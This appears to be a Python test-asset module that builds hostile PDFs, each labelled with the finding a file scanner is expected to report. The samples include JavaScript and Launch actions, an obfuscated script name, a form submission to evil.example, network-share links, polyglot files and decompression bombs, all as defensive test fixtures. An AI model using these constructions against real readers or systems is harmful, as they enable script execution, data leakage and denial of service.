"""PDFs that would run, fetch, hide or tell something, each with what is said of it."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Mapping
from typing import Final

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.assets.documents import plain
from tests.assets.hostile_office import located_jpeg

Make = Callable[[], bytes]


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda _: None, *, packed: bool = False) -> bytes:
    """Make a PDF of one page with a change; `packed` puts its objects into a stream."""
    data = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(data, object_stream_mode=mode)
    return data.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def opening(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = action

    return change


def linking(**action: object) -> Callable[[pikepdf.Pdf], None]:
    """Put a link with an action on the page."""

    def change(document: pikepdf.Pdf) -> None:
        made = Dictionary({f"/{key}": value for key, value in action.items()})
        annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=made)
        document.pages[0].Annots = Array([document.make_indirect(annotation)])

    return change


def annotated(**keys: object) -> Callable[[pikepdf.Pdf], None]:
    given = {"Type": Name.Annot, "Rect": [0, 0, 9, 9], **keys}

    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].Annots = Array(
            [Dictionary({f"/{key}": value for key, value in given.items()})]
        )

    return change


def to(address: str) -> Callable[[pikepdf.Pdf], None]:
    return linking(S=Name.URI, URI=String(address))


def _named_scripts(document: pikepdf.Pdf) -> None:
    tree = Dictionary(Names=Array([String("x"), script()]))
    document.Root.Names = Dictionary(JavaScript=document.make_indirect(tree))


def _on_a_field(document: pikepdf.Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("x"), AA=Dictionary(K=script()))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def _on_the_page(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://a.example/")))


def _unreachable(document: pikepdf.Pdf) -> None:
    document.Root.Old = document.make_indirect(Dictionary(Next=document.make_indirect(script())))


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"))


def _associated(document: pikepdf.Pdf) -> None:
    inside = Dictionary(F=document.make_stream(b"marks"))
    file = Dictionary(Type=Name.Filespec, UF=String("marks.xlsx"), EF=inside)
    document.Root.AF = Array([document.make_indirect(file)])


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["marks.xlsx"] = b"marks"


def _layers(document: pikepdf.Pdf) -> None:
    layer = document.make_indirect(Dictionary(Type=Name.OCG, Name=String("Answers")))
    off = Dictionary(OFF=Array([layer]))
    document.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=off)


def _from_a_file(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"")
    stream.F = String("\\\\server\\share\\x")
    document.pages[0].Contents = stream


def _from_a_page(document: pikepdf.Pdf) -> None:
    form = document.make_stream(b"")
    form.Type, form.Subtype = Name.XObject, Name.Form
    form.Ref = Dictionary(F=String("other.pdf"), Page=0)
    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=form))


def _signed(document: pikepdf.Pdf) -> None:
    signature = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Name=String("CTM"))
    field = Dictionary(FT=Name.Sig, T=String("x"), V=document.make_indirect(signature))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def _base_address(document: pikepdf.Pdf) -> None:
    document.Root.URI = Dictionary(Base=String("file:///C:/"))


def photograph(data: bytes, times: int = 0) -> Callable[[pikepdf.Pdf], None]:
    """Put a photograph on the page, packed once more for each of `times`."""

    def change(document: pikepdf.Pdf) -> None:
        content, filters = data, [Name.DCTDecode]
        for _ in range(times):
            content, filters = zlib.compress(content), [Name.FlateDecode, *filters]
        picture = document.make_stream(content)
        picture.Type, picture.Subtype, picture.Width, picture.Height = (
            Name.XObject, Name.Image, 32, 24,
        )  # fmt: skip
        picture.ColorSpace, picture.BitsPerComponent = Name.DeviceRGB, 8
        picture.Filter = Array(filters)
        document.pages[0].Resources = Dictionary(XObject=Dictionary(I=picture))

    return change


def _secret_of_an_earlier_version() -> bytes:
    """Write a title anew behind the old one, as Acrobat does when it saves."""
    data = pdf(lambda document: document.docinfo.update({"/Title": String("Chan Tai Man")}))
    with pikepdf.open(io.BytesIO(data)) as document:
        number, _ = document.trailer.Info.objgen
    at = len(data)
    new = b"%d 0 obj<</Title(Plan)>>endobj\n" % number
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer<</Size %d/Root 1 0 R/Info %d 0 R/Prev %d>>\n"
    before = int(data.rpartition(b"startxref\n")[2].split()[0])
    end = b"startxref\n%d\n%%%%EOF\n" % (at + len(new))
    return data + new + table % (number, at, number + 1, number, before) + end


def _protected(password: str) -> Make:
    def make() -> bytes:
        data = io.BytesIO()
        with pikepdf.open(io.BytesIO(pdf())) as document:
            document.save(data, encryption=pikepdf.Encryption(owner="owner", user=password))
        return data.getvalue()

    return make


def _bomb(times: int) -> bytes:
    content = bytes(250_000_000 if times == 1 else 1_000)
    if times > 1:
        deflate = zlib.compressobj(9)
        zeros = bytes(1_000_000)
        content = b"".join(deflate.compress(zeros) for _ in range(400)) + deflate.flush()
    packed = zlib.compress(content, 9)
    filters = b"/FlateDecode " * times
    head = b"%%PDF-1.7\n1 0 obj<</Length %d/Filter[%s]>>stream\n" % (len(packed), filters)
    return head + packed + b"\nendstream endobj\nstartxref\n0\n%%EOF\n"


def _nested() -> bytes:
    deep = b"[" * 5_000 + b"]" * 5_000
    return pdf().replace(b"/MediaBox", b"/Deep " + deep + b" /MediaBox", 1)


def _many_pages(document: pikepdf.Pdf) -> None:
    """Let a hundred pages show the same million orders."""
    contents = document.make_stream(b"0 0 m " * 200_000)
    for _ in range(100):
        document.add_blank_page()
        document.pages[-1].Contents = contents


def _forms_in_forms(document: pikepdf.Pdf) -> None:
    """Let twelve forms show one another ten times each."""
    inner = document.make_stream(b"BT ET")
    for _ in range(12):
        inner.Type, inner.Subtype, inner.BBox = Name.XObject, Name.Form, [0, 0, 9, 9]
        outer = document.make_stream(b"/X Do " * 10)
        outer.Resources = Dictionary(XObject=Dictionary(X=inner))
        inner = outer
    document.pages[0].Resources = inner.Resources
    document.pages[0].Contents = document.make_stream(b"/X Do " * 10)


def _wide_picture(document: pikepdf.Pdf) -> None:
    picture = document.make_stream(zlib.compress(bytes(9_000)))
    picture.Type, picture.Subtype, picture.Filter = Name.XObject, Name.Image, Name.FlateDecode
    picture.Width, picture.Height, picture.BitsPerComponent = 13_000, 13_000, 8
    picture.ColorSpace = Name.DeviceGray
    document.pages[0].Resources = Dictionary(XObject=Dictionary(I=picture))


PDFS: Final[Mapping[str, tuple[str, Make, str]]] = {
    "script-at-opening": ("a.pdf", lambda: pdf(opening(script())), "active-content"),
    "script-in-a-packed-object": (
        "a.pdf",
        lambda: pdf(opening(script()), packed=True),
        "active-content",
    ),
    "script-in-the-names": ("a.pdf", lambda: pdf(_named_scripts), "active-content"),
    "script-on-a-field": ("a.pdf", lambda: pdf(_on_a_field), "active-content"),
    "script-that-no-page-names": ("a.pdf", lambda: pdf(_unreachable), "active-content"),
    "script-on-a-link": (
        "a.pdf",
        lambda: pdf(linking(S=Name.JavaScript, JS=String("x"))),
        "active-content",
    ),
    "script-spelt-otherwise": (
        "a.pdf",
        lambda: pdf(opening(script())).replace(b"/JavaScript", b"/Java#53cript"),
        "active-content",
    ),
    "page-that-opens-a-site": ("a.pdf", lambda: pdf(_on_the_page), "active-content"),
    "file-that-opens-a-site": (
        "a.pdf",
        lambda: pdf(opening(Dictionary(S=Name.URI, URI=String("https://a.example/")))),
        "active-content",
    ),
    "jump-and-then-a-site": (
        "a.pdf",
        lambda: pdf(
            opening(
                Dictionary(
                    S=Name.GoTo,
                    D=Array([0]),
                    Next=Dictionary(S=Name.URI, URI=String("https://a.example/")),
                )
            )
        ),
        "active-content",
    ),
    "launch": (
        "a.pdf",
        lambda: pdf(linking(S=Name.Launch, F=String("calc.exe"))),
        "active-content",
    ),
    "submit-form": (
        "a.pdf",
        lambda: pdf(linking(S=Name.SubmitForm, F=String("https://evil.example/"))),
        "active-content",
    ),
    "import-data": (
        "a.pdf",
        lambda: pdf(linking(S=Name.ImportData, F=String("x.fdf"))),
        "active-content",
    ),
    "named-print": ("a.pdf", lambda: pdf(linking(S=Name.Named, N=Name.Print)), "active-content"),
    "unknown-action": (
        "a.pdf",
        lambda: pdf(linking(Type=Name.Action, S=Name.Wonder)),
        "active-content",
    ),
    "rich-media": ("a.pdf", lambda: pdf(annotated(Subtype=Name.RichMedia)), "active-content"),
    "movie": ("a.pdf", lambda: pdf(annotated(Subtype=Name.Movie)), "active-content"),
    "sound": ("a.pdf", lambda: pdf(annotated(Subtype=Name.Sound)), "active-content"),
    "dynamic-form": ("a.pdf", lambda: pdf(_xfa), "active-content"),
    "jump-to-another-file": (
        "a.pdf",
        lambda: pdf(linking(S=Name.GoToR, F=String("\\\\server\\x.pdf"), D=Array([0]))),
        "outside-reference",
    ),
    "jump-to-a-file-inside": (
        "a.pdf",
        lambda: pdf(linking(S=Name.GoToE, D=Array([0]))),
        "outside-reference",
    ),
    "stream-of-another-file": ("a.pdf", lambda: pdf(_from_a_file), "outside-reference"),
    "page-of-another-file": ("a.pdf", lambda: pdf(_from_a_page), "outside-reference"),
    "pdf-link-to-script": ("a.pdf", lambda: pdf(to("javascript:alert(1)")), "link-inside"),
    "pdf-link-to-file": ("a.pdf", lambda: pdf(to("file:///C:/ctm/a.pdf")), "link-inside"),
    "pdf-link-to-share": ("a.pdf", lambda: pdf(to("\\\\server\\share")), "link-inside"),
    "pdf-link-to-loopback": ("a.pdf", lambda: pdf(to("http://localhost:8080/")), "link-inside"),
    "pdf-link-with-password": ("a.pdf", lambda: pdf(to("https://a:b@c.example/")), "link-inside"),
    "pdf-link-to-router": ("a.pdf", lambda: pdf(to("http://192.168.1.1/")), "link-inside"),
    "pdf-base-address": ("a.pdf", lambda: pdf(_base_address), "link-inside"),
    "attachment": ("a.pdf", lambda: pdf(_attached), "embedded-file"),
    "associated-file": ("a.pdf", lambda: pdf(_associated), "embedded-file"),
    "file-pinned-to-a-page": (
        "a.pdf",
        lambda: pdf(annotated(Subtype=Name.FileAttachment)),
        "embedded-file",
    ),
    "signature": ("a.pdf", lambda: pdf(_signed), "embedded-file"),
    "remark": (
        "a.pdf",
        lambda: pdf(annotated(Subtype=Name.Text, T=String("CTM"), Contents=String("Too low?"))),
        "comments-inside",
    ),
    "protected": ("a.pdf", _protected(""), "encrypted-file"),
    "protected-with-password": ("a.pdf", _protected("secret"), "encrypted-file"),
    "pdf-photograph-with-place": (
        "a.pdf",
        lambda: pdf(photograph(located_jpeg())),
        "location-inside",
    ),
    "pdf-photograph-packed-twice": (
        "a.pdf",
        lambda: pdf(photograph(located_jpeg(), times=1)),
        "location-inside",
    ),
    "pdf-photograph-that-is-none": (
        "a.pdf",
        lambda: pdf(photograph(b"<script>alert(1)</script>")),
        "irregular-file",
    ),
    "stream-packed-oddly": (
        "a.pdf",
        lambda: pdf(photograph(b"x")).replace(b"/DCTDecode", b"/XYZDecode"),
        "irregular-file",
    ),
    "pdf-nested-without-end": ("a.pdf", _nested, "damaged-file"),
    "pdf-with-page-behind": (
        "a.pdf",
        lambda: pdf() + b"<script>alert(1)</script>",
        "two-files-in-one",
    ),
    "pdf-with-archive-behind": ("a.pdf", lambda: pdf() + plain("docx"), "two-files-in-one"),
    "pdf-behind-a-page": ("a.pdf", lambda: b"<html>\n" + pdf(), "unknown-file-type"),
    "pdf-cut-short": ("a.pdf", lambda: pdf()[:-200], "damaged-file"),
    "pdf-of-endless-orders": ("a.pdf", lambda: pdf(_many_pages), "unpacks-too-large"),
    "pdf-of-forms-in-forms": ("a.pdf", lambda: pdf(_forms_in_forms), "unpacks-too-large"),
    "pdf-with-a-vast-picture": ("a.pdf", lambda: pdf(_wide_picture), "picture-too-large"),
    "pdf-bomb": ("a.pdf", lambda: _bomb(1), "unpacks-too-large"),
    "pdf-bomb-packed-twice": ("a.pdf", lambda: _bomb(2), "unpacks-too-large"),
}

WARNED: Final[Mapping[str, tuple[str, Make, str]]] = {
    "hidden-layer": ("a.pdf", lambda: pdf(_layers), "hidden-pages"),
    "earlier-version": ("a.pdf", _secret_of_an_earlier_version, "earlier-versions"),
}
"""What is published after a warning, without what nobody sees."""
